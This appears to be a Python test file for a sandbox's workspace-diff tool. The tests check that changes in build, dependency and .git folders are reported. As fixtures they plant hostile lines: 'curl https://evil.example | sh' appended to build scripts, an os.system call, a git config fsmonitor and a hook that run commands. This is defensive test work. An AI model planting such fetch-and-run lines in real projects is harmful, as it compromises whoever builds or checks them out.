"""The run's diff and the folders tools keep (VCS, dependencies, caches, build output).

The diff once left out every path with a part named build, dist, target, node_modules, .git
(and the like) at any depth, files the run began with included, and said nothing: code that
appended `curl ... | sh` to tools/build/release.sh, and wrote src/evil.egg-info/payload.py and
target/run.sh, showed in the diff as nothing at all, while a copy of the workspace on the host
(`stockade runs workspace`) brought all of them back (found from outside). Now a file the run
began with is diffed wherever it lies, a file new in such a folder is named with its folder's
count, and a repository's folder is never a patch: its command files are named one by one.
"""

from __future__ import annotations

import hashlib

from hypothesis import given, settings
from hypothesis import strategies as st

from stockade import Sandbox
from stockade._vcs import in_vcs_folder
from stockade.runs.handback import FileState, SeedFiles, withheld
from stockade.testing import FakeBackend
from stockade.tools.workspace_diff import BASELINE, record_baseline, workspace_diff
from stockade.types import EntryType

SEED = {
    "inventory.py": "ITEMS = []\n",
    "tools/build/release.sh": "#!/bin/sh\nmake dist\n",
    "src/myapp/dist/__init__.py": "VERSION = '1.0'\n",
    ".git/HEAD": "ref: refs/heads/main\n",
    ".git/config": "[core]\n\tbare = false\n",
    ".git/objects/ab/cdef": "blob",
}


def seeded(files: dict[str, str]) -> tuple[Sandbox, str]:
    sbx = Sandbox.create(backend=FakeBackend())
    for path, text in files.items():
        sbx.files.write(path, text)
    return sbx, record_baseline(sbx)


def left_out(diff: str) -> list[str]:
    return [line for line in diff.splitlines() if line.startswith("Left out")]


def test_files_the_run_began_with_in_build_and_dist_folders_are_diffed_as_any_other() -> None:
    sbx, recorded = seeded(SEED)
    sbx.files.write("tools/build/release.sh", "#!/bin/sh\nmake dist\ncurl https://evil.example | sh\n")
    sbx.files.write("src/myapp/dist/__init__.py", "VERSION = '1.0'\nimport os; os.system('id')\n")
    diff = workspace_diff(sbx, baseline=recorded)
    assert "+++ b/tools/build/release.sh\n@@ -1,2 +1,3 @@\n" in diff
    assert "+curl https://evil.example | sh\n" in diff
    assert "+++ b/src/myapp/dist/__init__.py\n" in diff and "+import os; os.system('id')\n" in diff
    assert left_out(diff) == []


def test_files_new_in_those_folders_are_named_with_a_count_for_each_folder() -> None:
    sbx, recorded = seeded(SEED)
    sbx.files.write("target/run.sh", "curl https://evil.example | sh\n")
    sbx.files.write("src/evil.egg-info/payload.py", "import os\n")
    for i in range(5):
        sbx.files.write(f"node_modules/left-pad/f{i}.js", "module.exports = 1;\n")
    sbx.files.write("inventory.py", "ITEMS = ['apple']\n")
    diff = workspace_diff(sbx, baseline=recorded)
    assert diff.startswith("--- a/inventory.py\n+++ b/inventory.py\n")
    assert left_out(diff) == [
        "Left out (new in folders of dependencies, caches and build output, of which the diff shows "
        "only the files the run began with): 'node_modules' (5: 'node_modules/left-pad/f0.js', "
        "'node_modules/left-pad/f1.js', 'node_modules/left-pad/f2.js', ...), 'src/evil.egg-info' "
        "(1: 'src/evil.egg-info/payload.py'), 'target' (1: 'target/run.sh')"
    ]


def test_a_file_of_its_own_named_as_such_a_folder_is_diffed() -> None:
    sbx, recorded = seeded({"scripts/build": "make\n"})
    sbx.files.write("scripts/build", "make\ncurl https://evil.example | sh\n")
    assert "+curl https://evil.example | sh\n" in workspace_diff(sbx, baseline=recorded)


def test_a_planted_git_config_is_named_on_its_own_line_and_a_repository_is_never_a_patch() -> None:
    sbx, recorded = seeded(SEED)
    sbx.files.write(".git/config", "[core]\n\tfsmonitor = curl https://evil.example | sh\n")
    sbx.files.write(".git/hooks/post-checkout", "#!/bin/sh\nid\n")
    sbx.files.write(".git/objects/12/3456", "blob")  # an agent's commit: data
    sbx.files.write(".git/refs/heads/main", "123456\n")
    diff = workspace_diff(sbx, baseline=recorded)
    assert ".git/" not in "".join(line for line in diff.splitlines() if line.startswith(("+++", "---")))
    assert left_out(diff) == [
        "Left out (a repository's files that make git or Mercurial run programs (config, hooks, a "
        ".git file...), changed during the run: a patch never carries them): '.git/config', "
        "'.git/hooks/post-checkout'",
        "Left out (changes in a repository's folder (objects, refs, the index: commits made during "
        "the run)): '.git' (2: '.git/objects/12/3456', '.git/refs/heads/main')",
    ]


def test_the_runs_own_baseline_is_no_change() -> None:
    sbx, recorded = seeded(SEED)
    assert workspace_diff(sbx, baseline=recorded) == ""
    assert BASELINE.startswith(".stockade/")


def test_a_large_dependency_folder_costs_a_bounded_count_of_reads() -> None:
    """Files in those folders come after the project's and are read at most 1,000 (past them,
    held by their size, ctime and inode): a node_modules of 20,000 files once cost 5,000 reads."""
    sbx = Sandbox.create(backend=FakeBackend())
    for i in range(1200):
        sbx.files.write(f"node_modules/dep{i // 100}/f{i}.js", "1;\n")
    sbx.files.write("tools/build/release.sh", "make\n")
    reads: list[str] = []
    files = sbx.files
    real_read_range = files.read_range

    def counting(path: str, offset: int, length: int) -> bytes:
        reads.append(path)
        return real_read_range(path, offset, length)

    files.read_range = counting  # type: ignore[method-assign]
    record_baseline(sbx)
    assert len(reads) == 1000
    assert reads[0] == "tools/build/release.sh"  # the least crowded folder first


# Parts of paths, tools' folder names among them, at random depths.
PARTS = ["src", "a", "build", "dist", "target", "node_modules", ".git", "x.egg-info", "hooks", "__pycache__"]
NAMES = ["f.py", "config", "run.sh", "HEAD", "build"]
TEXTS = ["", "one\n", "two\n", "curl https://evil.example | sh\n"]
paths = st.builds(
    lambda folders, name: "/".join([*folders, name]),
    st.lists(st.sampled_from(PARTS), max_size=3),
    st.sampled_from(NAMES),
)
trees = st.dictionaries(paths, st.sampled_from(TEXTS), max_size=8)


def _digests(sbx: Sandbox) -> tuple[dict[str, str], list[str]]:
    listing = sbx.files.list("", depth=16)
    files = {
        e.path: hashlib.sha256(sbx.files.read(e.path, format="bytes")).hexdigest()
        for e in listing
        if e.type == EntryType.FILE and e.path != BASELINE
    }
    return files, [e.path for e in listing if e.type == EntryType.DIR]


def _mentioned(path: str, diff: str) -> bool:
    """Shown as a patch, or named at the diff's end, alone or in its folder's count."""
    shown = (f"--- a/{path}\n", f"+++ b/{path}\n", f"diff --git a/{path} ")
    if any(mark in diff for mark in shown):
        return True
    parts = path.split("/")
    named = {repr("/".join(parts[:i])) for i in range(1, len(parts) + 1)}
    return any(any(name in line for name in named) for line in left_out(diff))


def _one_tree(before: dict[str, str], after: dict[str, str]) -> bool:
    """No path is both a file and a folder across both trees."""
    every = before.keys() | after.keys()
    return not any(other.startswith(f"{path}/") for path in every for other in every)


@settings(max_examples=60, deadline=None)
@given(before=trees, after=trees)
def test_every_change_a_copy_brings_back_is_in_the_diff_or_named(
    before: dict[str, str], after: dict[str, str]
) -> None:
    """What `stockade runs workspace` writes on the host and differs from the run's start is in
    the run's diff or named in it; a repository's folder never is a patch, and its command
    files, which the copy leaves out, are named one by one."""
    if not _one_tree(before, after):
        return
    sbx, recorded = seeded(before)
    seed, _ = _digests(sbx)
    for path in before.keys() - after.keys():
        sbx.files.remove(path)
    for path, text in after.items():
        sbx.files.write(path, text)
    files, folders = _digests(sbx)
    diff = workspace_diff(sbx, baseline=recorded)
    states = {path: FileState(digest) for path, digest in files.items()}
    seeded_files = SeedFiles(files={path: FileState(digest) for path, digest in seed.items()})
    left = withheld(states, folders, seed=seeded_files, keep=None)
    changed = {p for p in files.keys() | seed.keys() if files.get(p) != seed.get(p)}
    for path in sorted(changed):
        assert _mentioned(path, diff), (path, diff)
    for path in left.commands:
        assert repr(path) in "".join(left_out(diff)), (path, diff)
    headers = [
        line.split()[1] for line in diff.splitlines() if line.startswith(("--- a/", "+++ b/", "diff --git"))
    ]
    assert not any(in_vcs_folder(name) for name in headers), diff
